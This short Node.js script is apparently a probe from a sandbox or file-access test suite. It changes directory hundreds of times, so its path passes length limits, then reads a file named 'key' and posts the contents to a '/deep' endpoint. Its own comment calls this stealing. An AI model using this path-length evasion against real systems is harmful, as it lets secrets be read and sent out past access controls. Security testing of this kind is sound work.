// Steals a file that lies deeper than any path can say: `deep.js DIRECTORY`, step by step.
'use strict';
const { post, fs } = require('./kit.js');

process.chdir(process.argv[2]);
for (let i = 0; i < 200; i++) process.chdir('d');
for (let i = 0; i < 30; i++) process.chdir('e'.repeat(200));
let text = '';
try { text = fs.readFileSync('key', 'utf8'); } catch {}
if (text) post('/deep', { text });
